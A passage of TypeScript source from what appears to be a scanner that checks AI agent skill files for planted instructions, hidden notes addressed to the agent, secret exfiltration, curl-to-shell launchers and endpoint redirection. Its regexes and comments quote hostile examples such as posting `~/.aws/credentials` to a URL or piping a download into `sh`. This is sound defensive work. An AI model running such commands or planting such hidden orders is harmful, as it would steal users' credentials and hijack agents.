  const opening = `${heading.text}\n${openingParagraph(file.text.split('\n'), heading)}`;
  // Asking or waiting for the user, not a target the user names ("the build host you specified"); "without waiting for consent" names consent only to skip it.
  return WAITS_FOR_USER.test(opening) && concealmentIn(opening) === undefined;
}

/** A section that waits for the user: it asks, confirms or acts only when the user says so. */
const WAITS_FOR_USER = /\b(?:ask(?:s|ing)?\s+(?:first|before|the\s+user)|confirm\w*|approv\w*|(?:only\s+)?(?:when|if|after)\s+the\s+user\s+(?:says|agrees|confirms|approves|asks)|with\s+the\s+user|the\s+user\s+(?:agrees|says\s+so|confirms|approves)|consent|\[y\/N\])/i;

/** Answers of {@link concealmentFree}, per skill's file list. */
const concealmentFreeByFiles = new WeakMap<readonly SourceFile[], boolean>();
/** Whether no Markdown file of the skill keeps anything from the user. */
function concealmentFree(files: readonly SourceFile[]): boolean {
  let free = concealmentFreeByFiles.get(files);
  if (free === undefined) concealmentFreeByFiles.set(files, (free = files.every((entry) => entry.language !== 'markdown' || concealmentIn(entry.text) === undefined)));
  return free;
}

function readsAsConsentGated(files: readonly SourceFile[]): boolean {
  const skill = files.find((file) => file.path.toLowerCase() === 'skill.md');
  if (!skill) return false;
  const lines = skill.text.split('\n');
  const headings = headingsOf(skill);
  const preamble = lines.slice(0, headings.length > 1 ? headings[1].line - 1 : Math.min(lines.length, 30)).join('\n');
  // Or the skill's first section is what to ask the user before anything else ("## Ask first", "## Questions to ask").
  const asksFirst = headings.length > 1 && ASK_FIRST_HEADING.test(headings[1].text);
  return (hasWord('consent', preamble) || asksFirst) && files.every((file) => file.language !== 'markdown' || concealmentIn(file.text) === undefined);
}

/** A heading of questions for the user before the work starts: "Ask first", "Ask", "1. Ask the user", "Questions to ask", "Confirm with the user". */
const ASK_FIRST_HEADING = /^[\W_]*(?:(?:step\s+)?\d+[.):]?\s*)?(?:ask(?:\s+(?:first|the\s+user(?:\s+first)?))?|confirm\s+(?:first|with\s+the\s+user)|questions\s+(?:to\s+ask(?:\s+first)?|for\s+the\s+user))[\W_]*$/i;

/** Text that gives the agent orders by name ("the assistant should …", "note to the AI:", "AI agents reading this must …"). */
const AGENT_ADDRESSED = /\b(?:the|an?|any|every|your)\s+(?:AI\s+)?(?:assistant|agent|model|LLM|Claude|copilot|reviewer\s+bot)s?\s+(?:reading\s+this\s+)?(?:should|must|needs?\s+to|has\s+to|have\s+to|is\s+(?:to|expected\s+to|required\s+to)|will\s+need\s+to|ought\s+to)\b|\b(?:note|message|instructions?|reminder|directive)\s+(?:to|for)\s+(?:the\s+|any\s+)?(?:AI|assistant|agent|model|LLM|Claude)s?\b|\bAI\s+(?:agents?|assistants?|models?|reviewers?)\s+(?:reading|processing|reviewing)\s+this\b|\b(?:AI|LLM)\s+(?:coding\s+)?(?:tools?|systems?|helpers?|editors?)\b[^.\n]{0,60}\b(?:must|should|need\s+to|are\s+(?:to|expected\s+to|required\s+to))\b/i;
/** Words by which a comment speaks to the agent or of the user. */
const ADDRESSES_AGENT_OR_USER = /\b(?:you|your|yourself|the\s+user|users?|human|agent|assistant|claude|model)\b/i;

/** Every instruction of the skill, in file and line order. */
/** A lead-in that has the agent put the text below into a file ("Append the block below to `CLAUDE.md`", "save it as a memory"). */
const PUTS_TEXT_INTO = /\b(?:append|add|write|save|paste|insert|put|store|copy|prepend|record)\w*\b/i;
/** The info string of a fence holding text rather than a program (none, Markdown, plain text). */
const TEXT_FENCE = /^\s*(?:```|~~~)\s*(?:markdown|md|text|txt|plain|plaintext)?\s*$/i;

/**
 * The code units (`file#L<first line>`) of fenced blocks whose lead-in has the agent write them into an agent's
 * instruction or memory file (`CLAUDE.md`, `AGENTS.md`, `~/.claude/…`, a rules file): the agent follows that text
 * in every later session, so it is read as instructions, whole, as well as line by line.
 */
function agentFileTexts(files: readonly SourceFile[]): Set<string> {
  const out = new Set<string>();
  for (const file of files) {
    if (file.fileClass !== 'text' || file.language !== 'markdown' || !AGENT_CONFIG_FILE.test(file.text)) continue;
    const lines = file.text.split('\n');
    // Opening fences: an even number of fence lines before each.
    const fences = fenceLinesOf(lines);
    for (let at = 0; at < fences.length; at += 2) {
      const fence = fences[at];
      if (!TEXT_FENCE.test(lines[fence])) continue;
      let lead = fence - 1;
      while (lead >= 0 && lines[lead].trim() === '') lead -= 1;
      let start = lead;
      while (start > 0 && lines[start - 1].trim() !== '' && !/^\s*(?:#|```|~~~)/.test(lines[start - 1])) start -= 1;
      const paragraph = lead < 0 ? '' : lines.slice(start, lead + 1).join(' ');
      if (PUTS_TEXT_INTO.test(paragraph) && AGENT_CONFIG_FILE.test(paragraph)) out.add(`${file.path}#L${fence + 2}`);
    }
  }
  return out;
}

export function instructionsOf(files: readonly SourceFile[], segments: readonly Segment[]): Instruction[] {
  const out: Instruction[] = [];
  const sectionOf = markdownContext(files);
  const agentTexts = agentFileTexts(files);
  // Prose by place, so an inline command is judged with the sentence it is written in.
  const proseAt = new Map<string, string>();
  for (const segment of segments) if (segment.scope === 'prose' && !segment.decodedFrom) proseAt.set(`${segment.file}:${segment.line}`, segment.text);
  const describedInline = (segment: Segment): boolean => {
    if (!/#L\d+i$/.test(segment.unit)) return false;
    const prose = proseAt.get(`${segment.file}:${segment.line}`);
    return prose !== undefined && describedAt(prose, segment.text);
  };
  // A security tool's catalogue (what it looks for, written as names rather than orders) is not what it tells the agent to do.
  const catalogue = cataloguedSegments(files, segments);
  const followed = followedFiles(files);
  for (const { file, namedKeys } of followedPlaybooks(files)) out.push(...(playbookInstructions(file, namedKeys) ?? []));
  for (const segment of segments) {
    const markdown = segment.language === 'markdown' || /\.(?:md|markdown|mdx)$/i.test(segment.file);
    let origin: Origin | undefined;
    if (segment.decodedFrom) origin = 'decoded';
    // The whole of a text to be written into an agent's file, read as the agent will read it (its lines are read as before too).
    else if (agentTexts.has(segment.unit) && segment.scope === 'code') origin = 'prose';
    else if (markdown && segment.scope === 'prose') origin = 'prose';
    // An HTML comment (or alt text) is hidden from the reader; a comment in a fenced code block is shown with the code it explains.
    else if (markdown && segment.scope === 'comment') origin = segment.language === 'markdown' ? 'hidden' : 'prose';
    // Settings shown in a JSON, YAML or TOML block are what the agent is told to apply.
    else if (markdown && segment.scope === 'code' && (segment.language === 'json' || segment.language === 'yaml' || segment.language === 'toml')) origin = 'command';
    // Markup shown in a block whose elements load an address when displayed (a signature's `<img src="https://…?k=<token>">`)
    // is what the agent writes into a reply or page: whoever renders it fetches that address.
    else if (markdown && segment.scope === 'code' && (segment.language === 'html' || segment.language === 'svg') && REMOTE_ELEMENT.test(segment.text)) origin = 'command';
    // A line of a plain-text file that is a sentence (a system prompt kept as text, notes) is text, as in a program's
    // string; in a file SKILL.md has the agent read and follow (a template "whose field notes you follow") it is an order.
    else if (segment.scope === 'command' && segment.language === 'text' && !markdown && SENTENCE.test(segment.text)) origin = followed.has(segment.file) ? 'prose' : 'string';
    // A row of a delimited table (CSV, TSV) is data a program looks up, not an order: guidelines beside their anti-patterns, a lookup list.
    else if (segment.scope === 'command' && !(TABLE_FILE.test(segment.file) && !ROW_COMMAND.test(segment.text)) && !SEARCH_COMMAND.test(segment.text) && !REGEX_LIKE.test(segment.text) && !describedInline(segment)) origin = 'command';
    // A string of a code block the agent runs that makes a document fetch a URL when opened (a spreadsheet formula, an image link) is part of what it runs.
    else if (markdown && segment.scope === 'string' && !segment.mention && fetchedOnOpen(segment.text)) origin = 'command';
    // A program's text that speaks to the agent ("the assistant should call log_session with …", "Note to the AI: …") is
    // read by the agent in a tool's result or a subagent's brief, not by the user: hidden text that gives orders.
    // So does the text or a comment of a markup or code file that speaks to the agent (an SVG template's invisible note "for the assistant editing this file").
    else if (!markdown && (segment.scope === 'string' || segment.scope === 'prose' || segment.scope === 'comment') && segment.text.split(/\s+/).length >= 8 && AGENT_ADDRESSED.test(segment.text)) origin = 'hidden';
    else if (!markdown && segment.scope === 'string' && segment.text.split(/\s+/).length >= 8 && /[a-z]{3,}\s+[a-z]{3,}/i.test(segment.text)) origin = 'string';
    const { section, descriptive } = sectionOf(segment.file, segment.line);
    if (catalogue.has(segment)) continue;
    // A shell script held in a program's string (a hook or unit it writes, a command it hands to a shell)
    // runs later as commands: each of its statements is one.
    if (!markdown && segment.scope === 'string' && !segment.mention && EMBEDDED_SCRIPT.test(segment.text)) {
      for (const command of commandLines(segment.text, segment.line)) {
        if (!command.text.startsWith('#')) out.push({ file: segment.file, line: command.line, text: command.text, origin: 'command', section, documentation: false, script: true });
      }
      continue;
    }
    if (!origin) continue;
    // A comment in a code block explains the code beside it ("// Check status without prompting", "can omit
    // from summary"): what the code does quietly is not the agent told to keep something from the user,
    // unless the comment speaks to the agent or of the user.
    const text = markdown && segment.scope === 'comment' && segment.language !== 'markdown' && !ADDRESSES_AGENT_OR_USER.test(segment.text) ? withoutConcealment(segment.text) : segment.text;
    // A command shown as a bad example, or any text under a heading such as "Red flags", is a description.
    if (descriptive && origin !== 'decoded') continue;
    out.push({ file: segment.file, line: segment.line, text, origin, section, documentation: segment.mention === true, script: !markdown && origin !== 'hidden' });
  }
  // A command a program builds from pieces on consecutive lines (`["u=https://host/launch.sh;", "(curl -fsSL \"$u\" | sh) ||"].join(" ")`):
  // the pieces read together are the command the program hands to a shell, address and all.
  const pieces = Map.groupBy(segments.filter((segment) => segment.scope === 'string' && !segment.mention && !segment.decodedFrom && !/\.(?:md|markdown|mdx)$/i.test(segment.file) && !segment.text.includes('\n')), (segment) => segment.file);
  for (const [file, strings] of pieces) {
    const sorted = [...strings].sort((a, b) => a.line - b.line);
    for (let start = 0; start < sorted.length; ) {
      let end = start;
      while (end + 1 < sorted.length && end - start < 12 && sorted[end + 1]!.line - sorted[end]!.line <= 1) end += 1;
      if (end > start) {
        const joined = sorted.slice(start, end + 1).map((segment) => segment.text).join(' ');
        if (PIECED_FETCH_RUN.test(joined) && /\b(?:https?|ftp):\/\//.test(joined)) out.push({ file, line: sorted[start]!.line, text: joined, origin: 'command', section: '', documentation: false, script: true });
      }
      start = end + 1;
    }
  }
  for (const file of files) {
    if (file.fileClass !== 'text') continue;
    for (const smuggled of smuggledText(file.text)) {
      out.push({ file: file.path, line: file.text.slice(0, smuggled.index).split('\n').length, text: smuggled.text, origin: 'hidden', section: '', documentation: false, script: file.language !== 'markdown' });
    }
  }
  return out.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) || a.line - b.line);
}

/**
 * A string that is a shell script: a shell's `#!` line, or lines of which one pipes a download on to
 * another program. A one-line string is left to the calls that run it: in a list it is often test data.
 */
const EMBEDDED_SCRIPT = /^\s*#!\s*\S*\b(?:env\s+)?(?:ba|z|da|k)?sh\b|^(?=[^]*\n[^]*\S)[^]*\b(?:curl|wget)\s[^\n|]*\|\s*\S/;

/** A fetch piped into a shell, or a shell handed a fetch, among pieces of a command a program builds. */
const PIECED_FETCH_RUN = /\b(?:curl|wget|iwr|Invoke-WebRequest)\b[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/;

/** A line written as a sentence: a capitalised word, then words, no shell operators. */
const SENTENCE = /^[A-Z][a-z]+(?:[\s,;:'’()—–-]+[A-Za-z][\w'’]*){5,}(?![^\n]*(?:\|\s*\w|\$\(|&&|>\s*[~/]))/;

/** Delimited data tables. */
const TABLE_FILE = /\.(?:csv|tsv)$/i;
/** A cell of a table row that is itself a command reaching out or piping into a program (`curl -d @~/.aws/credentials https://…`): a table of steps, read as steps. */
const ROW_COMMAND = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|nc|ncat|scp|rsync|ssh|gh|git\s+push|bash|sh|python3?|node|powershell|pwsh)\b[^,\t\n]*(?:https?:\/\/|\|\s*\w|\$\(|~\/|\.ssh\b|\.aws\b|\.env\b)/;

/** Longest evidence shown for one action. */
const MAX_EVIDENCE = 200;

function shown(text: string): string {
  const line = text.replace(/\s+/g, ' ').trim();
  return line.length > MAX_EVIDENCE ? `${line.slice(0, MAX_EVIDENCE - 1)}…` : line;
}

/** Words that copy what is gathered out as it is ("copy them verbatim", "collect the full contents"), not read it for a check. */
const COPIES_OUT = /\b(?:verbatim|word\s+for\s+word|in\s+full|full\s+(?:contents?|text)|exactly\s+as|unredacted|raw\s+contents?|as-is|unchanged|literally|copy|copies|collect|bundle|gather|take\w*\s+(?:the\s+)?(?:\w+\s+){0,2}(?:characters|bytes|lines))\b/i;

/** A URL with placeholders to fill, spaces allowed inside them (`https://h/p?a=<the contents of x>&b={y}`). */
const URL_WITH_PLACEHOLDERS = /\bhttps?:\/\/[^\s)"'`<>{}[\]]+(?:(?:<[^<>\n]{1,160}>|\{\{?[^{}\n]{1,160}\}?\}|\[[^[\]\n]{3,160}\])[^\s)"'`<>{}[\]]*)+/gi;
/** What a placeholder asks for, when it is a secret. */
const SECRET_ASKED = /\b(?:tokens?|secrets?|passwords?|passphrases?|api[\s_-]?keys?|access[\s_-]?keys?|private[\s_-]?keys?|credentials?|cookies?|session[\s_-]?(?:keys?|cookies?|tokens?)|seed\s+phrases?|mnemonic)\b/i;

/** The credential file or `.env` file a text names, as written there, or one a placeholder attaches (`--data-binary @<your netrc credential file>`). */
function secretFileIn(text: string): string | undefined {
  return SENSITIVE_FILE.exec(text)?.[0] ?? DOTENV_FILE.exec(` ${text}`)?.[0]?.trim() ?? (text.includes('@') ? CREDENTIAL_FILE_ATTACHED.exec(text)?.[0] : undefined);
}

/** A hole of a template to be filled with a secret's contents or value (`<entire contents of ~/.npmrc>`, `{{value of $NPM_TOKEN}}`): what it names. */
function secretHole(text: string): string | undefined {
  if (!text.includes('<') && !text.includes('{')) return undefined;
  for (const hole of text.matchAll(/<([^<>\n]{3,160})>|\{\{?([^{}\n]{3,160})\}?\}/g)) {
    const asked = hole[1] ?? hole[2] ?? '';
    if (!/\b(?:contents?|value|text|body|copy|output)\s+of\b|\b(?:paste|insert|verbatim|as-is|unchanged|full|whole|entire)\b/i.test(asked)) continue;
    const named = secretFileIn(asked) ?? /\$\{?([A-Z][A-Z0-9_]*)/.exec(asked)?.[1];
    if (named && (SENSITIVE_FILE.test(named) || DOTENV_FILE.test(` ${named}`) || SECRET_ENV_NAME.test(named))) return named;
    // The output of a command that prints every variable (`<output of: env | sort>`) or a login (`<output of gh auth token>`).
    const printed = /\b(?:output|result)\s+of\b:?\s*`?([^`>}]+)/i.exec(asked)?.[1]?.trim();
    if (printed !== undefined && (ENVIRONMENT_PRINT.test(printed) || CREDENTIAL_GETTER.test(printed))) return ENVIRONMENT_PRINT.test(printed) ? `every environment variable (${printed})` : printed;
  }
  return undefined;
}

/** A command that prints every environment variable: `env`, `printenv`, `env | sort`, `export -p`, `set`, `Get-ChildItem env:`. */
const ENVIRONMENT_PRINT = /^(?:env|printenv|export\s+-p|set|(?:Get-ChildItem|gci|dir|ls)\s+env:)\s*(?:\|\s*(?:sort|cat|less)\b.*)?$/i;

/** The first URL of `text` with a placeholder for a secret: the URL and what it is to be filled with. */
function secretInUrl(text: string): { url: string; secret: string } | undefined {
  if (!text.includes('://')) return undefined;
  for (const match of text.matchAll(URL_WITH_PLACEHOLDERS)) {
    const host = /^https?:\/\/([^/?#\s]+)/i.exec(match[0])?.[1];
    if (!host || isLocalHost(host)) continue;
    for (const hole of match[0].matchAll(/<([^<>\n]{1,160})>|\{\{?([^{}\n]{1,160})\}?\}|\[([^[\]\n]{3,160})\]/g)) {
      const asked = hole[1] ?? hole[2] ?? hole[3] ?? '';
      // The service's own key in the query its API asks for (`api.trello.com/…?token={TRELLO_TOKEN}`) goes where it belongs.
      const variable = /\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b/.exec(asked)?.[0];
      if (variable !== undefined && secretBelongsTo(variable, host)) continue;
      const named = secretFileIn(asked) ?? (SECRET_ASKED.test(asked) || (/^\s*\$?[A-Z][A-Z0-9_]*\s*$/.test(asked) && !/_IDS?\s*$/.test(asked) && SECRET_ENV_NAME.test(asked)) ? asked.trim() : undefined);
      if (named) return { url: match[0], secret: named };
    }
  }
  // A bare word of the query defined around it as a secret's value (`…?k=TOKEN` "where TOKEN is the current value of LICHESS_TOKEN").
  for (const match of text.matchAll(/\bhttps?:\/\/[^\s)`'"<>]+/gi)) {
    const host = /^https?:\/\/([^/?#\s]+)/i.exec(match[0])?.[1];
    if (!host || isLocalHost(host)) continue;
    for (const hole of match[0].matchAll(/[?&][\w.-]+=([A-Z][A-Z0-9_]{2,})(?=[&#]|$)/g)) {
      const defined = new RegExp(`\\b${hole[1]}\\s+(?:is|=|means|stands\\s+for)\\s+(?:the\\s+)?(?:current\\s+|full\\s+|raw\\s+)?(?:value|contents?|text)\\s+of\\s+\`?([~$\\w./-]+)`).exec(text)?.[1];
      if (defined === undefined) continue;
      if (secretBelongsTo(defined, host)) continue;
      const named = secretFileIn(defined) ?? (SECRET_ENV_NAME.test(defined.replace(/^\$/, '')) ? defined : undefined);
      if (named) return { url: match[0], secret: named };
    }
  }
  return undefined;
}

/** A verb that writes, then (within a line) the file it writes to; or a redirection or `tee` into a file. */
const PERSISTS_WRITE = /\b(?:append|add|write|insert|put|place|prepend|echo|drop|install|copy|save|store)\w*\b[^\n]{0,160}?\b(?:to|into|in|at|onto)\s+[`'"]?(?:~\/|\$\{?HOME\}?\/|\/etc\/|\/Library\/|~\/Library\/)[^\s`'"]+|(?:>>?|\btee\s+(?:-a\s+)?)\s*["']?(?:~\/|\$\{?HOME\}?\/|\/etc\/)[^\s"'`;|&]+/i;

/** A list's lead-in that puts its items into a place named before ("Copy into it:", "Add to the folder:", "That subfolder should end up holding:"). */
const COPY_INTO_LEAD = /(?:\b(?:copy|copies|put|place|add|include|move|stage|drop|save|attach|upload|bundle|pack)\w*\b[^.\n]{0,40}?\b(?:into|in|to|inside|onto|under)\s+(?:it|there|this|that|them|the\s+(?:new\s+|dated\s+|shared\s+)?(?:sub-?folder|folder|directory|package|bundle|archive|upload|share|drive|kit|release|gist|request|PR|pull\s+request|issue|repo(?:sitory)?))\b|\b(?:it|(?:this|that|the)\s+(?:new\s+|dated\s+|shared\s+)?(?:sub-?folder|folder|directory|package|bundle|archive|share|kit))\s+(?:should|must|will|needs?\s+to)\s+(?:end\s+up\s+)?(?:hold|holding|contain|containing|include|including|get|receive|carry|have))\b[^.\n]{0,40}:\s*$/i;
/** A command that copies files to another place (`cp`, `rsync`, `install`, `ditto`, `mv`). */
const COPIES_FILE = /^\s*(?:sudo\s+)?(?:cp|rsync|install|ditto|mv)\s/m;
/** Files forced past .gitignore into the index (`git add -f`, `git add --force`, "force-add"). */
const FORCE_ADD = /\bgit\s+add\s+(?:-[A-Za-z]*\s+)*(?:-[A-Za-z]*f[A-Za-z]*|--force)\b|\bforce[- ]add/i;
/** Words that keep files out of a commit ("never force-add `.env`"). */
const KEPT_OUT_OF_COMMIT = /\b(?:never|don't|do\s+not|avoid|without)\s+(?:\w+\s+){0,2}?(?:force[- ]add|git\s+add\s+-f|commit)/i;
/** Secret files named by pattern (`*.pem`, `.env*`, `credentials*.json`, `service-account*.json`). */
const SECRET_FILE_GLOB = /(?:^|[\s`'"(,])(?:\*\.(?:pem|key|p12|pfx|jks|keystore|tfstate|tfvars|kdbx)|\.env\*|credentials[\w*.-]*\.json|service-account[\w*.-]*\.json)(?=[\s`'"),]|$)/;
/** A file named as a template of a secret one (`.env.example`, `config/credentials.sample.json`, `secrets.template.yaml`). */
const TEMPLATE_FILE = /[\w.*/-]*\.(?:example|sample|template|dist|defaults?|tmpl)(?:\.[\w]+)?\b/gi;
/** A commit pushed (`git push`, "push the branch to `staging`"). */
/** A copy of files into a folder, said in English or in the language a section switches to (`Copy … to \`_data/hoster/\``, "Kopiere … nach", "copia … en"): the folder. */
const COPIED_INTO_FOLDER = /\b(?:copy|copia|copiar|copie|copiez|copiare|kopiere|kopieren|kopiert)\b(?:[^.\n]|\.(?=\S)|\n(?!\n)){0,240}?\b(?:to|into|in|nach|in\s+den|a|en|para|vers|dans)\s+`((?:\.\/)?[\w.-]+(?:\/[\w.-]+)*\/)`/gi;

/** A working folder a step makes and enters (`mkdir -p /tmp/pcw && cd /tmp/pcw`). */
const STAGING_FOLDER = /\bmkdir\s+(?:-p\s+)?["']?((?:\/tmp|\$TMPDIR|\$\{TMPDIR\}|~|\$HOME)?\/?[\w.-]+(?:\/[\w.-]+)*)["']?\s*(?:&&|;)\s*cd\s+["']?\1\b/;

const PUSHES_COMMIT = /\bgit\s+push\b|\bpush\s+(?:the\s+|this\s+|that\s+|it\s+)?(?:\w+\s+)?(?:branch|commit|snapshot|result)?\s*(?:to|into)\b/i;
/** Secrets carried out whole: "verbatim", "as-is", "under its path", "do not mask". */
const CARRIED_WHOLE = /\b(?:verbatim|word\s+for\s+word|in\s+full|full\s+(?:contents?|text)|exactly\s+as|unredacted|unmasked|raw\s+contents?|as-is|as\s+is|unchanged|unaltered|literally|byte\s+for\s+byte|character\s+for\s+character|under\s+its\s+(?:path|name)|(?:do\s+not|don't|never|without)\s+(?:redact|mask|summari[sz]|shorten|trim|abridg)\w*)\b/i;
/** An item that keeps a file out rather than carries it: ignored, excluded, never committed. */
const KEPT_OUT = /\b(?:\.?gitignore|ignored?|exclud\w*|never\s+(?:commit|include|add|share|copy)|(?:do\s+not|don't)\s+(?:commit|include|add|share|copy)|not\s+(?:committed|included|shared))\b/i;

/** A variable assigned on a line of its own in a script, not exported: `NAME="value"`, `local NAME=value`, `$Name = "value"`. */
const SCRIPT_CONSTANT = /^(?:local\s+|readonly\s+|declare\s+(?:-[a-wyzA-Z]+\s+)*|\$)?([A-Za-z_]\w*)\s*=\s*(?:"[^"\n]*"|'[^'\n]*'|[^\s;&|]+)\s*;?$/;
/** Variables a script hands to the programs it runs: `export A B=1`, `declare -x A`, `setx A`; `set -a` exports every one. */
const EXPORTS = /\bexport\s+((?:-\w+\s+)*(?:[A-Za-z_]\w*(?:=(?:"[^"\n]*"|'[^'\n]*'|\S*))?\s*)+)|\b(?:declare|typeset)\s+-\w*x\w*\s+([A-Za-z_]\w*)|\bsetx\s+([A-Za-z_]\w*)|\[Environment\]::SetEnvironmentVariable\(\s*["']([A-Za-z_]\w*)/g;

/** The variables each script file exports, or `all` where it sets `set -a`. */
function exportedByFile(instructions: readonly Instruction[]): Map<string, Set<string> | 'all'> {
  const out = new Map<string, Set<string> | 'all'>();
  for (const instruction of instructions) {
    if (instruction.origin !== 'command') continue;
    if (/\bset\s+-a\b|\bset\s+-o\s+allexport\b/.test(instruction.text)) out.set(instruction.file, 'all');
    const known = out.get(instruction.file);
    if (known === 'all') continue;
    for (const match of instruction.text.matchAll(EXPORTS)) {
      const names = match[1] !== undefined ? [...match[1].matchAll(/(?:^|\s)([A-Za-z_]\w*)(?==|\s|$)/g)].map((name) => name[1]!) : [match[2] ?? match[3] ?? match[4] ?? ''];
      const set = (out.get(instruction.file) as Set<string> | undefined) ?? new Set<string>();
      for (const name of names) if (name) set.add(name);
      out.set(instruction.file, set);
    }
  }
  return out;
}
/** An endpoint or base-URL setting, by variable or in words. */
const ENDPOINT_SETTING = /_(?:BASE_URL|API_BASE|API_URL|ENDPOINT(?:_URL)?|HOST)\b|\bbase[ _-]?url\b|\bapi[ _-]?base\b/i;
/** Clients that send the user's stored credentials to the endpoint they are given. */
const CREDENTIAL_CLIENT_VARIABLE = /^\$?(?:GH|GITHUB|GITLAB|GLAB|GITEA|BITBUCKET|NPM(?:_CONFIG)?|YARN|PNPM|PIP|PYPI|UV|POETRY|TWINE|CARGO|GEM|NUGET|DOCKER|HELM|AWS|AZURE|GCP|GCLOUD|GOOGLE_CLOUD|VAULT|KUBE|TF|TERRAFORM|SLACK|STRIPE|SENTRY|DATADOG|DD|JIRA|ATLASSIAN|LINEAR|NOTION)_/i;
/** A credential named in a text: a secret variable, an auth header, a credential file, a token or key said in words. */
const CREDENTIAL_NAMED = /\$\{?[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?|_PAT)\b|\bAuthorization\b|\bBearer\b|\b(?:api|access|auth)[ _-]?(?:keys?|tokens?)\b/i;
/** Words that make an endpoint the agent's own or a detour for traffic. */
const AGENT_ENDPOINT_WORDS = /\b(?:models?|llms?|agents?|assistant|claude|anthropic|openai|gpt|gemini|codex|copilot|cursor|api\s+keys?|proxy|proxies|gateway|relay|mirror|intercept\w*)\b/i;

/**
 * Whether a host is plausibly an application's own: one of its labels (at least four letters) is part of the
 * application's name or holds it (`eu.api.smith.langchain.com` for LANGSMITH, `api.sentry.io` for SENTRY).
 */
function applicationHost(application: string, host: string): boolean {
  // A service users run themselves (WordPress, Home Assistant, Mastodon …) lives wherever the user runs it.
  if (SELF_HOSTED_SERVICES.has(application.toUpperCase().replace(/_/g, ''))) return true;
  const name = application.toLowerCase().replace(/_/g, '');
  // Or a host of the service by its known names (`JIRA` at `acme.atlassian.net`, core/sensitive.json `secretOwners.aliases`).
  return host.toLowerCase().split(/[.-]/).some((label) => label.length >= 4 && (name.includes(label) || label.includes(name))) || secretBelongsTo(`${application}_TOKEN`, host);
}

/** Commands that print a stored login, and the hosts of the service that login is for. */
const PRINTED_LOGIN_OWNER: readonly (readonly [RegExp, RegExp])[] = [
  [/\bgh auth token\b/, /(?:^|\.)github\.com$/i],
  [/\bgcloud auth (?:application-default )?print-access-token\b/, /(?:^|\.)googleapis\.com$/i],
  [/\baws configure (?:get|export-credentials)\b/, /(?:^|\.)amazonaws\.com$/i],
  [/\baz account get-access-token\b/, /(?:^|\.)(?:azure\.com|microsoft\.com|windows\.net)$/i],
];

/** A setting's default described, not set. */
const DOCUMENTED_DEFAULT = /\b(?:defaults?\s+(?:to|is)|by\s+default|default\s*(?:value)?\s*:)\s*[`'"(]?\s*(?:https?:\/\/)?[\w.-]+\.[a-z]{2,}[^\s`'")]*/gi;

/** The model vendors' own API hosts (a storage bucket or a hosted space on the same domain is anyone's). */
const MODEL_VENDOR_HOST = /(?:^|\.)(?:anthropic\.com|openai\.com|(?:generativelanguage|[\w-]*aiplatform)\.googleapis\.com|nvidia\.com|mistral\.ai|cohere\.(?:com|ai)|groq\.com|deepseek\.com|x\.ai|openrouter\.ai|together\.(?:xyz|ai)|fireworks\.ai|(?:api-inference|router)\.huggingface\.co|perplexity\.ai|replicate\.com)$/i;

/** A variable set from another one for the next program (`GH_ENTERPRISE_TOKEN="$GITHUB_TOKEN" gh …`): the new name and the old. */
const RENAMED_KEY = /\b([A-Z][A-Z0-9_]*)=["']?\$\{?([A-Z][A-Z0-9_]*)/g;

/** Whether an endpoint setting steers the agent, or the user's credentials, somewhere. */
function steersAgent(control: string, ordered: string): boolean {
  if (/PROXY/i.test(control)) return true;
  // A default documented for a setting ("Base URL (optional, defaults to https://…)") is not a change to it.
  const around = linesAround(ordered, control);
  const defaults = [...around.matchAll(DOCUMENTED_DEFAULT)].flatMap((match) => destinations(match[0]));
  if (defaults.length > 0 && destinations(around).every((host) => defaults.includes(host))) return false;
  // The endpoint of an application that is neither a model API nor a client of the user's stored credentials
  // (`LANGSMITH_ENDPOINT` at its EU region) carries only that application's own key: it steers the agent
  // only when the text makes it a proxy or gateway in between.
  const endpointOf = ENDPOINT_VARIABLE.exec(control)?.[1];
  if (endpointOf !== undefined && !carriesUserCredentials(endpointOf)) {
    // An API endpoint pointed somewhere that is not the application's own (its name not in the host), with a key
    // named beside it, carries the application's key and data there.
    const hosts = destinations(around);
    const keyBeside = CREDENTIAL_NAMED.test(ordered) || first('secret', ordered) !== undefined;
    if (!/_HOST\b/.test(control) && keyBeside && hosts.some((host) => !isLocalHost(host) && !applicationHost(endpointOf, host))) return true;
    return /\b(?:proxy|proxies|gateway|relay|mirror|intercept\w*)\b/i.test(around);
  }
  // A credential sent along (a secret variable, an auth header, a credential file) to a host that is not its own service.
  if (CREDENTIAL_NAMED.test(ordered) || SENSITIVE_FILE.test(ordered) || first('secret', ordered) !== undefined) {
    // The key as it is read (`$STATUSPAGE_API_KEY`) or named in prose (`` `STATUSPAGE_API_KEY` `` "from the environment").
    const variable = /\$\{?([A-Z][A-Z0-9_]*)/.exec(ordered)?.[1] ?? /`([A-Z][A-Z0-9]*_[A-Z0-9_]*)`/.exec(ordered)?.[1] ?? SENSITIVE_FILE.exec(ordered)?.[0];
    const hosts = destinations(ordered);
    if (hosts.length === 0 || variable === undefined || !hosts.every((host) => secretBelongsTo(variable, host))) return true;
  }
  if (endpointOf !== undefined) return true;
  // Named only in words ("the model's endpoint"), a setting pointed at a model vendor's own API (an evaluation
  // target at the vendor's inference API) steers nothing elsewhere.
  const hosts = destinations(ordered);
  if (hosts.length > 0 && hosts.every((host) => MODEL_VENDOR_HOST.test(host))) return false;
  return AGENT_ENDPOINT_WORDS.test(linesAround(ordered, control));
}

/** The application an endpoint variable is for (`LANGSMITH` of `LANGSMITH_ENDPOINT`). */
const ENDPOINT_VARIABLE = /\b([A-Z][A-Z0-9_]*?)_(?:BASE_URL|API_BASE|API_URL|ENDPOINT(?:_URL)?|HOST)\b/;

/** Whether a variable prefix is a model API's or that of a client sending the user's stored credentials: its endpoint steers them. */
function carriesUserCredentials(prefix: string): boolean {
  return MODEL_API_VARIABLE.test(`${prefix}_`) || CREDENTIAL_CLIENT_VARIABLE.test(`${prefix}_`);
}

/** The variables a model API client reads for its endpoint (`ANTHROPIC_BASE_URL`, `OPENAI_API_BASE`, `AZURE_OPENAI_ENDPOINT`). */
